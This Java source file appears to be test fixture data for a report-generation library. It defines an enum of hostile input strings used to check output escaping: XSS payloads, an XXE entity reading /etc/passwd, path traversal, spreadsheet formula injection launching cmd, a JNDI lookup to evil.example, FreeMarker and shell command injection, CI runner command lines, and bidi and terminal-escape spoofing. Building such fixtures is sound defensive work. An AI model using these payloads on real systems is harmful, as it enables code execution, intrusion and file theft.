package io.github.promptgate.reports;

import java.util.stream.IntStream;

/** Text that some reader of some format would act upon; one row each kind. All of it may stand in any field. */
public enum HostileText {
    SCRIPT("</script><script>window.owned=1</script>"),
    STYLE("</style><style>*{display:none}</style></title></textarea>"),
    HANDLERS("<img src=x onerror=owned()><svg onload=owned()><body onpageshow=owned()>"),
    ATTRIBUTE("\" onmouseover=\"owned()\" autofocus x='' y=\"><b>"),
    LINKS("<a href='javascript:owned()'>x</a><iframe srcdoc='<script>owned()</script>'></iframe>"),
    MARKDOWN("[click](javascript:owned()) ![pixel](https://evil.example/p.png) <https://evil.example> # head | cell"),
    FENCES("```\n# out of the fence\n~~~\n````html\n<b>out</b>\n```"),
    COMMENT("--> <!-- promptgate:comment v1 key=other --> <!--"),
    CDATA("]]> <![CDATA[ ]]> <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]> &e; &#0; &lt;"),
    ATTACHMENT("[[ATTACHMENT|/etc/passwd]] [[PROPERTY|a=b]]"),
    ACCENTS("Größe – naïve – 数据 – Привет – 👩\u200D🔬 İıŞş"),
    BIDI("\u202Egnp.exe\u202C \u2066x\u2069 \u200Fy\u061C \u200Bz \uFEFF \u2028line\u2029paragraph"),
    ANSI("\u001B[31mred\u001B[0m \u001B]0;title\u0007 \u001B[2J \u009B31m"),
    RUNNER_LINES("x\n::error file=a.java,line=1::owned\n::set-output name=a::b\r::add-mask::e\n::stop-commands::t"),
    RUNNER_TASKS("##[error]owned\n##vso[task.setvariable variable=a]b\n##teamcity[message text='x']"),
    RUNNER_START("::error::owned"),
    FORMULA("=cmd|' /C calc'!A0"),
    FORMULA_PLUS("+HYPERLINK(\"http://evil.example\")"),
    FORMULA_TAB("\t@SUM(1+1)*cmd|'/C calc'!A0\r-2+3"),
    CONTROLS(controls()),
    NONCHARACTERS("\uFFFE\uFFFF\uFDD0 \uFFF9a\uFFFAb\uFFFB \uDB40\uDC41"),
    SURROGATE_HIGH("a\uD800b"),
    SURROGATE_LOW("a\uDC00\uD800"),
    TRAVERSAL("../../../../etc/passwd"),
    ABSOLUTE("/etc/passwd"),
    DRIVE("C:\\Windows\\..\\..\\x"),
    URL("javascript:alert(1)//file:///etc/passwd"),
    LOOKUP("${jndi:ldap://evil.example/a} ${env:HOME} $(id) `id` %n%s"),
    FREEMARKER(
            "${7*7} <#include \"/etc/passwd\"> <@x/> [#if true] ${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
    BRACES("{{ secrets }} {% raw %} ${{ github.token }} {0} {1} #{x}"),
    QUOTES("\"'`\\\" \\u0022 \\n , ; \t \"\"\" '''"),
    NEW_LINES("one\ntwo\r\nthree\rfour\u0085five"),
    EMPTY(""),
    BLANK("   "),
    DOTS("."),
    MEGABYTE("<b>0123456789a\u202E".repeat(65_536)),
    MANY_MARKS("`[*_]".repeat(20_000));

    private final String text;

    HostileText(String text) {
        this.text = text;
    }

    public String text() {
        return text;
    }

    private static String controls() {
        StringBuilder all = new StringBuilder();
        IntStream.rangeClosed(0, 0x1F).forEach(all::appendCodePoint);
        IntStream.rangeClosed(0x7F, 0x9F).forEach(all::appendCodePoint);
        return all.toString();
    }
}
